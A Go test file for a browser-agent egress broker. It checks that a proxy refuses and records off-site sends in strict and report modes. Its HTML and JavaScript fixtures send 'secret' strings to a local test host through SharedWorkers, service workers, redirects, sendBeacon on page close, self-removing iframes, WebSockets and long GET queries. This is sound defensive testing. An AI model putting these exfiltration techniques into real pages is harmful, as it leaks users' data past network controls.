package browser_test

// The adversarial cases Playwright routing never saw, caught by the proxy (and
// WebSocket, GET query data, the browser's own traffic, scope-named
// targets). Same shared pool and two sites as browser_test.go.

import (
	"bufio"
	"crypto/sha1"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/broker"
	"github.com/gatehouse/gatehouse/broker/journal"
	"github.com/gatehouse/gatehouse/browser"
	"github.com/gatehouse/gatehouse/policy"
	"github.com/gatehouse/gatehouse/sinks/sinktest"
)

type envT = sinktest.Env

// backstopSite serves site A's pages for these cases; false for a path it
// does not know.
func backstopSite(w http.ResponseWriter, r *http.Request) bool {
	js := func(format string, args ...any) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, format, args...)
	}
	switch r.URL.Path {
	case "/backstop.html":
		fmt.Fprintf(w, backstopPage, siteB.URL)
	case "/shared.js":
		js(`fetch(%q + "/shared", {method: "POST", mode: "no-cors", body: "secret-shared"});`, siteB.URL)
	case "/sw.js":
		js(`self.addEventListener("install", () => fetch(%q + "/sw", {method: "POST", mode: "no-cors", body: "secret-sw"}));`, siteB.URL)
	case "/redirect307":
		io.Copy(io.Discard, r.Body)
		http.Redirect(w, r, siteB.URL+"/redirected", http.StatusTemporaryRedirect)
	case "/unload.html":
		fmt.Fprintf(w, `<h1>unload</h1><script>addEventListener("pagehide", () => navigator.sendBeacon(%q + "/pagehide", "secret-pagehide"));</script>`, siteB.URL)
	case "/popup-close.html":
		fmt.Fprintf(w, `<h1>popup</h1><script>addEventListener("pagehide", () => navigator.sendBeacon(%q + "/popup-close", "secret-popup-close"));
setTimeout(() => window.close(), 100);</script>`, siteB.URL)
	case "/selfremove.html":
		fmt.Fprintf(w, `<script>navigator.sendBeacon(%q + "/selfremove", "secret-selfremove"); frameElement.remove();</script>`, siteB.URL)
	default:
		return false
	}
	return true
}

const backstopPage = `<!doctype html><h1>backstop</h1>
<script>const B = %q;</script>
<button id="shared-worker" onclick="new SharedWorker('/shared.js')">1</button>
<button id="service-worker" onclick="navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {})">2</button>
<button id="redirect" onclick="fetch('/redirect307', {method: 'POST', mode: 'no-cors', body: 'secret-redirect'})">3</button>
<button id="selfremove" onclick="for (let i = 0; i < 10; i++) { const f = document.createElement('iframe'); f.src = '/selfremove.html'; document.body.appendChild(f); }">4</button>
<button id="websocket" onclick="const ws = new WebSocket(B.replace('http', 'ws') + '/ws?d=secret-wsquery'); ws.onopen = () => ws.send('secret-ws-frame');">5</button>
<button id="query" onclick="fetch(B + '/query?d=' + 'secret'.repeat(400), {mode: 'no-cors'})">6</button>
<button id="query-small" onclick="fetch(B + '/query-small?d=abc', {mode: 'no-cors'})">7</button>
<button id="popup-close" onclick="window.open('/popup-close.html')">8</button>
<button id="scoped" onclick="fetch(B + '/secret/data', {mode: 'no-cors'})">9</button>
<button id="open-popup" onclick="window.open('/form.html')">10</button>`

// webSocket answers a WebSocket handshake on site B and reads frames until
// the page goes away.
func webSocket(w http.ResponseWriter, r *http.Request) {
	sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	conn, brw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n",
		base64.StdEncoding.EncodeToString(sum[:]))
	brw.Flush()
	_, _ = io.Copy(io.Discard, bufio.NewReader(conn))
}

// backstopCase is one way a page sends to site B.
type backstopCase struct {
	name    string
	steps   func(t *testing.T, env *envT, run string)
	path    string // what site B counts
	action  string // the effect action of B's decision
	refusal policy.Refusal
	// never: nothing is decided and nothing arrives in any mode (the
	// service worker is blocked).
	never bool
	// strictOnly: the send may or may not happen in other modes (the
	// beacon fired while the context closes); only strict is checked.
	strictOnly bool
}

// clickUntilDecided clicks sel, again (up to five times) until a send to
// path on B is decided: a frame that removes itself right after
// sendBeacon sometimes takes all its beacons with it, and then nothing
// leaves the browser at all, so there is nothing to decide.
func clickUntilDecided(sel, path string) func(t *testing.T, env *envT, run string) {
	return func(t *testing.T, env *envT, run string) {
		do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/backstop.html")})
		for range 5 {
			do(t, env, run, browser.ActionClick, map[string]any{"selector": "#" + sel})
			for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
				for _, d := range decisions(t, env, run, browser.EffectSend) {
					if d.Host == hostOf(siteB) && d.Path == path {
						return
					}
				}
			}
		}
	}
}

func click(sel string) func(t *testing.T, env *envT, run string) {
	return func(t *testing.T, env *envT, run string) {
		do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/backstop.html")})
		do(t, env, run, browser.ActionClick, map[string]any{"selector": "#" + sel})
	}
}

var backstopCases = []backstopCase{
	{name: "shared-worker", steps: click("shared-worker"), path: "/shared", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite},
	{name: "service-worker", steps: click("service-worker"), path: "/sw", never: true},
	{name: "redirect-307", steps: click("redirect"), path: "/redirected", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite},
	{name: "self-removing-iframes", steps: clickUntilDecided("selfremove", "/selfremove"), path: "/selfremove", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite},
	{name: "websocket", steps: click("websocket"), path: "/ws", action: policy.BrowserConnect, refusal: policy.RefuseBrowserSendOffSite},
	{name: "get-query", steps: click("query"), path: "/query", action: browser.EffectSend, refusal: policy.RefuseBrowserQueryOffSite},
	{name: "beacon-on-popup-close", steps: click("popup-close"), path: "/popup-close", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite},
	{name: "beacon-on-pagehide", steps: func(t *testing.T, env *envT, run string) {
		do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/unload.html")})
		do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/form.html")})
	}, path: "/pagehide", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite},
	{name: "beacon-on-close", steps: func(t *testing.T, env *envT, run string) {
		do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/unload.html")})
		do(t, env, run, browser.ActionClose, nil)
	}, path: "/pagehide", action: browser.EffectSend, refusal: policy.RefuseBrowserSendOffSite, strictOnly: true},
}

// TestBackstop: every send Playwright routing never saw, in strict mode (site B
// receives nothing), with an allow rule for B (it arrives) and in report
// mode (it arrives, and what strict would refuse is on record).
func TestBackstop(t *testing.T) {
	b := hostOf(siteB)
	allowB := fmt.Sprintf("effects:\n  - name: allow-b\n    decision: allow\n    match: {sink: browser, target: %q}\n", b+"/**")
	for _, mode := range []struct {
		name     string
		mode     policy.Mode
		rules    string
		arrives  bool
		outcome  journal.Outcome
		refused  bool // the refusal is recorded (enforced or not)
		enforced bool
	}{
		{"strict", policy.ModeStrict, "", false, journal.OutcomeRefused, true, true},
		{"strict-allowed", policy.ModeStrict, allowB, true, journal.OutcomeAllowed, false, false},
		{"report", policy.ModeReport, "", true, journal.OutcomeAllowed, true, false},
	} {
		t.Run(mode.name, func(t *testing.T) {
			env := start(t, mode.mode, mode.rules)
			for _, c := range backstopCases {
				if c.strictOnly && mode.arrives {
					continue
				}
				t.Run(c.name, func(t *testing.T) {
					other.reset()
					run := openRun(t, env)
					c.steps(t, env, run)
					toB := func() []decided {
						var out []decided
						for _, d := range decisions(t, env, run, c.action) {
							if d.Host == b {
								out = append(out, d)
							}
						}
						return out
					}
					if c.never {
						time.Sleep(500 * time.Millisecond)
						if n := other.count(c.path); n != 0 {
							t.Fatalf("site B received %d %s", n, c.path)
						}
						env.Verify(t)
						return
					}
					if c.strictOnly {
						// The beacon may be lost with the context; if it
						// was sent, it was refused, and nothing arrived.
						time.Sleep(500 * time.Millisecond)
					} else {
						waitFor(t, "a decision on the send to B", func() bool { return len(toB()) > 0 })
					}
					if mode.arrives {
						waitFor(t, "the send to arrive", func() bool { return other.count(c.path) > 0 })
					} else {
						time.Sleep(300 * time.Millisecond)
						if n := other.count(c.path); n != 0 {
							t.Fatalf("site B received %d %s: strict mode let it out", n, c.path)
						}
					}
					for _, d := range toB() {
						wantRefusal := policy.Refusal("")
						if mode.refused {
							wantRefusal = c.refusal
						}
						if d.Outcome != mode.outcome || d.Refusal != wantRefusal || d.Enforced != mode.enforced || d.PageHost != hostOf(siteA) {
							t.Fatalf("decision = %+v", d.Decision)
						}
					}
					if c.name == "websocket" && mode.arrives {
						// The frames the page sent are counted and digested
						// when the tunnel closes.
						pool.CloseRun(run)
						d := toB()[0]
						waitFor(t, "the WebSocket's outcome", func() bool {
							for _, ev := range env.Events(t, run) {
								var res journal.Result
								if ev.Type == journal.TypeOutcome && ev.Effect == d.Effect && json.Unmarshal(ev.Data, &res) == nil {
									if res.Detail["websocket"] != "true" || res.Detail["frames"] != "1" || res.Size != int64(len("secret-ws-frame")) ||
										!strings.HasPrefix(res.Digest, "sha256:") || res.Detail["path"] != "/ws" {
										t.Fatalf("WebSocket outcome = %+v", res)
									}
									return true
								}
							}
							return false
						})
					}
					if c.name == "get-query" {
						if d := toB()[0]; d.Method != "GET" || d.Size != 2+6*400 || d.Path != "/query" {
							t.Fatalf("query decision = %+v", d.Decision)
						}
					}
					env.Verify(t)
					env.NoContent(t, "secret")
				})
			}
		})
	}
}

// TestSmallQueryIsARead: a GET to another site with a short query is a
// plain read, neither decided nor recorded, in strict mode too.
func TestSmallQueryIsARead(t *testing.T) {
	env := start(t, policy.ModeStrict, "browser:\n  max_off_site_query_bytes: 64\n")
	run := openRun(t, env)
	other.reset()
	click("query-small")(t, env, run)
	waitFor(t, "the read to arrive", func() bool { return other.count("/query-small") > 0 })
	if got := decisions(t, env, run, browser.EffectSend); len(got) != 0 {
		t.Fatalf("a plain read was decided: %+v", got)
	}
	env.Verify(t)
}

// TestRuntimeTraffic: what reaches the runtime's listener (the browser's
// own traffic, attributed to no run) is refused, and recorded under the
// runtime's run, never an agent's.
func TestRuntimeTraffic(t *testing.T) {
	for _, mode := range []policy.Mode{policy.ModeReport, policy.ModeStrict} {
		t.Run(string(mode), func(t *testing.T) {
			// The runtime's runs opened under this broker: Chromium's own
			// traffic may open one before the request below (during the
			// goto), which the request then shares.
			fwd.mu.Lock()
			fwd.opened = nil
			fwd.mu.Unlock()
			env := start(t, mode, "")
			run := openRun(t, env)
			do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/")}) // the browser is up
			other.reset()
			proxyURL, _ := url.Parse(pool.RuntimeProxyURL())
			c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}}
			resp, err := c.Post(siteB.URL+"/background", "text/plain", strings.NewReader("secret-background"))
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden || other.count("/background") != 0 {
				t.Fatalf("the runtime's request: status %d, site B received %d", resp.StatusCode, other.count("/background"))
			}
			var d decided
			waitFor(t, "the runtime's decision on site B", func() bool {
				fwd.mu.Lock()
				runs := slices.Clone(fwd.opened)
				fwd.mu.Unlock()
				for _, rt := range runs {
					for _, x := range decisions(t, env, rt, policy.BrowserBackground) {
						if x.Host == hostOf(siteB) {
							d = x
							return true
						}
					}
				}
				return false
			})
			if d.ActingFor != (policy.Principal{Tenant: browser.RuntimeTenant, Person: browser.RuntimePerson}) || d.Origin != policy.OriginRuntime ||
				d.Outcome != journal.OutcomeRefused || d.Refusal != policy.RefuseBrowserBackground || d.Host != hostOf(siteB) {
				t.Fatalf("the runtime's decision = %+v", d.Decision)
			}
			if got := decisions(t, env, run, policy.BrowserBackground); len(got) != 0 {
				t.Fatalf("the runtime's traffic is on the agent's run: %+v", got)
			}
			env.Verify(t)
		})
	}
}

// TestScopedTarget: a scope names site B's /secret/**. A read of it (a
// fetch from a page, or the agent's goto) is decided like a navigation and,
// without the scope, refused in report mode too; with it, allowed.
func TestScopedTarget(t *testing.T) {
	b := hostOf(siteB)
	rules := fmt.Sprintf("scopes:\n  require:\n    - scope: bank\n      match: {sink: browser, target: %q}\n", b+"/secret/**")
	for _, mode := range []policy.Mode{policy.ModeReport, policy.ModeStrict} {
		for _, holds := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/holds=%v", mode, holds), func(t *testing.T) {
				env := start(t, mode, rules)
				w := broker.OpenWork{Tenant: "acme", Person: "ada"}
				if holds {
					w.Scopes = []string{"bank"}
				}
				run := env.Open(t, w)
				t.Cleanup(func() { pool.CloseRun(run) })
				other.reset()
				click("scoped")(t, env, run)
				var ds []decided
				waitFor(t, "the scoped read's decision", func() bool {
					ds = decisions(t, env, run, browser.EffectNavigate)
					for _, d := range ds {
						if d.Host == b {
							return true
						}
					}
					return false
				})
				d := ds[len(ds)-1]
				if d.Target != b+"/secret/data" || len(d.ScopesChecked) != 1 || d.ScopesChecked[0] != "bank" {
					t.Fatalf("decision = %+v", d.Decision)
				}
				if holds {
					waitFor(t, "the read to arrive", func() bool { return other.count("/secret/data") > 0 })
					if d.Outcome != journal.OutcomeAllowed {
						t.Fatalf("decision = %+v", d.Decision)
					}
				} else {
					time.Sleep(300 * time.Millisecond)
					if d.Outcome != journal.OutcomeRefused || d.Refusal != policy.RefuseScopeMissing || other.count("/secret/data") != 0 {
						t.Fatalf("decision = %+v, site B received %d", d.Decision, other.count("/secret/data"))
					}
					r := try(t, env, run, browser.ActionGoto, map[string]any{"url": siteB.URL + "/secret/page"})
					if r.Decision == nil || r.Decision.Outcome != journal.OutcomeRefused || other.count("/secret/page") != 0 {
						t.Fatalf("the agent's goto to a scoped target: %+v", r)
					}
				}
				env.Verify(t)
			})
		}
	}
}

// TestBrowserRestart: after Chromium goes away, the run's next action is
// told its pages are gone, and the next goto starts a new browser.
func TestBrowserRestart(t *testing.T) {
	env := start(t, policy.ModeStrict, "")
	run := openRun(t, env)
	do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/form.html")})
	pool.CrashBrowser()
	r := try(t, env, run, browser.ActionText, map[string]any{"selector": "h1"})
	if r.Error == nil || r.Error.Code != broker.CodeEffectFailed || r.Outcome == nil || r.Outcome.Error != "browser-restarted" {
		t.Fatalf("text after the crash: %+v (error %v)", r, r.Error)
	}
	do(t, env, run, browser.ActionGoto, map[string]any{"url": pageURL("/form.html")})
	r = do(t, env, run, browser.ActionText, map[string]any{"selector": "h1"})
	if !strings.Contains(string(r.Result), "form") {
		t.Fatalf("text after the restart: %s", r.Result)
	}
	env.Verify(t)
}

// TestPopups: a popup an action opens is addressable: pages lists it,
// switch acts on it, and switch back returns to the first page.
func TestPopups(t *testing.T) {
	env := start(t, policy.ModeStrict, "")
	run := openRun(t, env)
	click("open-popup")(t, env, run)
	var list struct {
		Pages []struct {
			Page int
			URL  string
		}
		Current int
	}
	waitFor(t, "the popup", func() bool {
		r := do(t, env, run, browser.ActionPages, nil)
		if err := json.Unmarshal(r.Result, &list); err != nil {
			t.Fatal(err)
		}
		return len(list.Pages) == 2 && strings.HasSuffix(list.Pages[1].URL, "/form.html")
	})
	if list.Current != 0 {
		t.Fatalf("pages = %+v", list)
	}
	do(t, env, run, browser.ActionSwitch, map[string]any{"page": 1})
	do(t, env, run, browser.ActionFill, map[string]any{"selector": "#name", "value": "in-popup"})
	do(t, env, run, browser.ActionClick, map[string]any{"selector": "#show"})
	text := func(sel string) string {
		r := do(t, env, run, browser.ActionText, map[string]any{"selector": sel})
		var v struct{ Text string }
		json.Unmarshal(r.Result, &v)
		return v.Text
	}
	if got := text("#out"); got != "in-popup red" {
		t.Fatalf("text in the popup = %q", got)
	}
	do(t, env, run, browser.ActionSwitch, map[string]any{"page": 0})
	if got := text("h1"); got != "backstop" {
		t.Fatalf("text back on the first page = %q", got)
	}
	r := try(t, env, run, browser.ActionSwitch, map[string]any{"page": 7})
	if r.Outcome == nil || r.Outcome.Error != "no-page" {
		t.Fatalf("switch to a page that does not exist: %+v", r)
	}
	sw := decisions(t, env, run, browser.ActionSwitch)
	if len(sw) != 3 || sw[0].Target != hostOf(siteA)+"/form.html" || sw[1].Target != hostOf(siteA)+"/backstop.html" {
		t.Fatalf("switch decisions = %+v", sw)
	}
	env.Verify(t)
}
